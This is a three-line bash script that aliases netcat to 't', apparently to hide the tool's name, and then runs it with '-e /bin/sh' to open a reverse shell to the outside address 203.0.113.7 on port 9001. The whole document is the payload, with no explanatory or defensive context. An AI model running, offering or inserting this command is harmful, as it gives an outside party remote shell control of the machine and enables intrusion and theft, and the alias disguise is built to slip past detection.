#!/bin/bash
alias t=nc
t -e /bin/sh 203.0.113.7 9001
